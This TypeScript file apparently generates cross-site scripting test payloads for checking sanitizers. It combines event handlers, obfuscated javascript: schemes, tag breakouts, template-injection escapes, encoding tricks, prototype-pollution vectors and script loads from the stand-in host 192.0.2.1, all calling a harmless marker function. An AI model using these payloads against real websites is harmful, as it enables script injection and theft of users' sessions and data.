/**
 * Texts by which a page could be made to run something, by combination of what carries and what is carried. All of them
 * would call `ran(<number>)`, open a dialog, or ask 192.0.2.1: each harmless, each noticed.
 */
export function scriptPayloads(): string[] {
  const made: string[] = [];
  const add = (make: (code: string) => string) => made.push(make(`ran(${made.length})`));
  for (const event of EVENTS)
    for (const element of ELEMENTS) add((code) => element.replace('%', `${event}=${code}`));
  for (const scheme of SCHEMES)
    for (const carrier of CARRIERS) add((code) => carrier.replace('%', scheme.replace('%', code)));
  for (const breakout of BREAKOUTS)
    for (const body of BODIES) add((code) => breakout + body.replace('%', code));
  for (const [open, close] of TEMPLATES)
    for (const expression of EXPRESSIONS) add((code) => open + expression.replace('%', code) + close);
  for (const other of OTHERS) add((code) => other.replace('%', code));
  return [...new Set(made)];
}

const EVENTS = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'ontoggle',
  'onanimationstart',
  'onbegin',
  'onpointerenter',
  'onpageshow',
  'onscroll',
  'onwheel',
  'ontransitionend',
  'onbeforetoggle',
  'onresize',
  'onhashchange',
];

const ELEMENTS = [
  '<img src=x %>',
  '<svg %>',
  '<svg/%>',
  '<body %>',
  '<details open %>',
  '<input autofocus %>',
  '<video src=x %>',
  '<audio src=x %>',
  '<iframe %></iframe>',
  '<select autofocus %>',
  '<object data=x %>',
  '<math %>',
  '<IMG SRC=x %//',
  '<x contenteditable %>',
  '<image src=x %>',
  '<svg><animate attributeName=x dur=1s %>',
];

const SCHEMES = [
  'javascript:%',
  'JaVaScRiPt:%',
  'java\tscript:%',
  'java\nscript:%',
  ' javascript:%',
  '\u0001javascript:%',
  '&#106;avascript:%',
  'javascript&colon;%',
  'javascript://%0a%',
  'data:text/html,<script>%</script>',
  'data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=',
  'vbscript:%',
  'blob:http://192.0.2.1/%',
  '//192.0.2.1/%',
];

const CARRIERS = [
  '%',
  '<a href="%">x</a>',
  '<form action="%"><button>x</button></form>',
  '<button formaction="%">x</button>',
  '<iframe src="%"></iframe>',
  '<object data="%"></object>',
  '<embed src="%">',
  '<svg><a xlink:href="%"><text>x</text></a></svg>',
  '<meta http-equiv="refresh" content="0;url=%">',
  '[x](%)',
  '<base href="%">',
  '<link rel="stylesheet" href="%">',
  '<img src="%">',
];

const BREAKOUTS = [
  '">',
  "'>",
  '</title>',
  '</script>',
  '</style>',
  '</textarea>',
  '</option></select>',
  '-->',
  ']]>',
  '</noscript>',
  '\u0000',
  '\\"};',
];
const BODIES = [
  '<script>%</script>',
  '<img src=x onerror=%>',
  '<svg onload=%>',
  '<script src=//192.0.2.1/%></script>',
  ' onmouseover=% x="',
  ';%//',
];

const TEMPLATES = [
  ['{{', '}}'],
  ['${', '}'],
  ['#{', '}'],
  ['<%=', '%>'],
  ['{%', '%}'],
  ['[[', ']]'],
  ['@(', ')'],
  ['*{', '}'],
] as const;
const EXPRESSIONS = [
  '%',
  'constructor.constructor("%")()',
  '[].constructor.constructor("%")()',
  '$on.constructor("%")()',
  'this.constructor.constructor("%")()',
];

const OTHERS = [
  '<script>alert("%")</script>',
  '<script>%</script>',
  '<ScRiPt>%</sCrIpT>',
  '<script/x>%</script>',
  '<<script>%//<</script>',
  '<script\u00a0>%</script>',
  '%3Cscript%3E%%3C/script%3E',
  '&lt;script&gt;%&lt;/script&gt;',
  '\\u003cscript\\u003e%\\u003c/script\\u003e',
  '\uff1cscript\uff1e%\uff1c/script\uff1e',
  '+ADw-script+AD4-%+ADw-/script+AD4-',
  '<style>@import "//192.0.2.1/%";</style>',
  '<style>*{background:url(//192.0.2.1/%)}</style>',
  '<x style="background:url(//192.0.2.1/%)">x</x>',
  '<x style="width:expression(%)">x</x>',
  '<svg><script>%</script></svg>',
  '<svg><use href="data:image/svg+xml,<svg onload=%>#x"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=%>',
  '<noscript><p title="</noscript><img src=x onerror=%>">',
  '<template><script>%</script></template>',
  '<iframe srcdoc="<script>parent.%</script>"></iframe>',
  '<img srcset="//192.0.2.1/% 1x">',
  '<link rel="dns-prefetch" href="//192.0.2.1">',
  '<link rel="preload" as="script" href="//192.0.2.1/%">',
  '<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml"><script>%</script></x>',
  '<!--[if IE]><script>%</script><![endif]-->',
  '__proto__[innerHTML]=<img/src/onerror=%>',
  'constructor.prototype.innerHTML=<img/src/onerror=%>',
  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=%>"}}',
  '\u202e<script>%</script>',
  '\u2028%',
  '<plaintext>%',
];
